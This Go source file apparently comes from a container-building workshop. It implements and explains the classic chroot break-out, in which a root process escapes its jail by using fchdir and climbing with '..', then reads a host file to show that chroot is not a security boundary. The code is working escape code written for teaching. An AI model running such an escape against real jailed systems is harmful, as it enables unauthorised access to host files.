package chroot

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// The classic chroot break-out, by a root process inside the jail.
//
// chroot(2) changes only the directory where absolute path lookups start. It
// does not move the working directory, and ".." stops only at the process's
// own root. So a root process inside a jail can:
//
//  1. keep a handle on a directory: open(".");
//  2. chroot into a subdirectory: now the handle points above the new root;
//  3. fchdir(handle): the working directory is outside the root, where ".."
//     is never stopped by it;
//  4. chdir("..") until "." and ".." are the same directory: the real root;
//  5. chroot("."): "/" is the host's root again.
//
// This is why chroot is not a security boundary: it needs CAP_SYS_CHROOT to
// escape, but root inside a plain chroot has it. Chapter 2 uses pivot_root(2)
// in a mount namespace, where the host's root is not reachable at all.

// EscapeDir is the subdirectory the escape creates to chroot into.
const EscapeDir = ".minibox-escape"

// maxClimb bounds the walk up: no real path is this deep.
const maxClimb = 4096

// EscapeReport is what a break-out attempt did and found.
type EscapeReport struct {
	Steps []string // the syscalls made, in order, as a learner would write them
	Root  FileID   // the directory that "/" is after the attempt
}

// FileID identifies a directory independently of the path used to reach it.
type FileID struct {
	Dev uint64
	Ino uint64
}

// StatID returns the FileID of path.
func StatID(path string) (FileID, error) {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return FileID{}, fmt.Errorf("stat %s: %w", path, err)
	}
	return FileID{Dev: uint64(st.Dev), Ino: st.Ino}, nil
}

// Escape tries to break the calling process out of its chroot, following the
// five steps above. It changes the root and working directory of the whole
// process, so call it only in a process made for it (see RunEscape).
func Escape() (*EscapeReport, error) {
	r := &EscapeReport{}
	step := func(call, why string) { r.Steps = append(r.Steps, fmt.Sprintf("%-26s %s", call, why)) }

	if err := unix.Chdir("/"); err != nil {
		return r, fmt.Errorf("chdir /: %w", err)
	}
	if err := unix.Mkdir(EscapeDir, 0o700); err != nil && !errors.Is(err, unix.EEXIST) {
		return r, fmt.Errorf("mkdir %s: %w", EscapeDir, err)
	}
	step(fmt.Sprintf("mkdir(%q)", EscapeDir), "a directory to chroot into")
	fd, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return r, fmt.Errorf("open .: %w", err)
	}
	defer unix.Close(fd)
	step(fmt.Sprintf(`open(".") = %d`, fd), "keep a handle on the jail's root")
	if err := unix.Chroot(EscapeDir); err != nil {
		return r, fmt.Errorf("chroot %s: %w", EscapeDir, err)
	}
	step(fmt.Sprintf("chroot(%q)", EscapeDir), "the root moves down; the handle is now above it")
	if err := unix.Fchdir(fd); err != nil {
		return r, fmt.Errorf("fchdir: %w", err)
	}
	step(fmt.Sprintf("fchdir(%d)", fd), "stand outside the new root")
	climbed, err := climbToTop()
	if err != nil {
		return r, err
	}
	step(fmt.Sprintf(`chdir("..") x %d`, climbed), `up until "." and ".." are the same directory`)
	if err := unix.Chroot("."); err != nil {
		return r, fmt.Errorf("chroot .: %w", err)
	}
	step(`chroot(".")`, "make the host's root the root again")
	if err := unix.Chdir("/"); err != nil {
		return r, fmt.Errorf("chdir /: %w", err)
	}
	root, err := StatID("/")
	if err != nil {
		return r, err
	}
	r.Root = root
	return r, nil
}

// climbToTop walks the working directory up with chdir("..") until "."
// and ".." are the same directory: the top, where ".." leads nowhere
// higher. That is the process's root, or, for a process standing outside
// its root, the real root above it. It returns how many steps up it took.
//
//workshop:exercise chroot.escape
func climbToTop() (int, error) {
	climbed := 0
	for ; climbed < maxClimb; climbed++ {
		dot, err := StatID(".")
		if err != nil {
			return climbed, err
		}
		dotdot, err := StatID("..")
		if err != nil {
			return climbed, err
		}
		if dot == dotdot {
			break
		}
		if err := unix.Chdir(".."); err != nil {
			return climbed, fmt.Errorf("chdir ..: %w", err)
		}
	}
	return climbed, nil
}

// EscapeResult is what RunEscape saw.
type EscapeResult struct {
	EscapeReport
	Target      string // the host file the jailed process tried to read
	SeenInJail  string // what reading Target in the jail gave (often an error)
	SeenOutside string // what reading Target after the escape gave
	Escaped     bool   // "/" after the escape is the host's root
}

const escapeEntry = "minibox-chroot-escape"

func init() { Register(escapeEntry, escapeMain) }

// RunEscape starts a root process jailed in root, has it read target, then
// break out with Escape and read target again. The process is this binary,
// re-executed (see reexec.go); the jail's own files do not change except for
// the EscapeDir it creates, which RunEscape removes.
func RunEscape(root, target string) (*EscapeResult, error) {
	hostRoot, err := StatID("/")
	if err != nil {
		return nil, err
	}
	cmd := Self(escapeEntry)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	child, err := Start(cmd)
	if err != nil {
		return nil, fmt.Errorf("escape process: %w", err)
	}
	var res EscapeResult
	replied, err := false, child.Send(escapeOrders{Root: root, Target: target})
	if err == nil {
		replied, err = child.Reply(&res)
	}
	waitErr := cmd.Wait()
	if rerr := os.Remove(filepath.Join(root, EscapeDir)); rerr != nil && !os.IsNotExist(rerr) {
		return nil, fmt.Errorf("remove the escape's directory: %w", rerr)
	}
	switch {
	case err != nil:
		return nil, fmt.Errorf("escape process: %w", err)
	case !replied:
		return nil, fmt.Errorf("escape process: %v: %s", waitErr, bytes.TrimSpace(stderr.Bytes()))
	}
	res.Escaped = res.Root == hostRoot
	return &res, nil
}

// escapeOrders are what the jailed process gets from RunEscape.
type escapeOrders struct{ Root, Target string }

// escapeMain runs in the re-executed process. Its result, or its error,
// goes back to the parent: the learner sees "chroot: operation not
// permitted", not "exit status 1".
func escapeMain() {
	var o escapeOrders
	if err := Orders(&o); err != nil {
		Fail(err, 1)
	}
	res, err := escapeChild(o.Root, o.Target)
	if err != nil {
		Fail(err, 1)
	}
	if err := Reply(res); err != nil {
		fmt.Fprintln(os.Stderr, "escape process: reply to the parent:", err)
		os.Exit(1)
	}
	os.Exit(0)
}

// enterJail jails the calling process in root, as SysProcAttr.Chroot does
// for JailCommand's child: chroot(root), so that paths starting with "/"
// begin at root, then chdir("/"), so that the working directory is in the
// jail too. It changes the whole process: call it only in a process made
// for it, as escapeChild's is.
//
//workshop:exercise chroot.jail
func enterJail(root string) error {
	if err := unix.Chroot(root); err != nil {
		return fmt.Errorf("chroot %s: %w", root, err)
	}
	if err := unix.Chdir("/"); err != nil {
		return fmt.Errorf("chdir /: %w", err)
	}
	return nil
}

func escapeChild(root, target string) (*EscapeResult, error) {
	res := &EscapeResult{Target: target}
	if err := enterJail(root); err != nil {
		return nil, err
	}
	res.SeenInJail = readOrError(target)
	rep, err := Escape()
	if err != nil {
		return nil, err
	}
	res.EscapeReport = *rep
	res.SeenOutside = readOrError(target)
	return res, nil
}

func readOrError(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return err.Error()
	}
	return string(b)
}
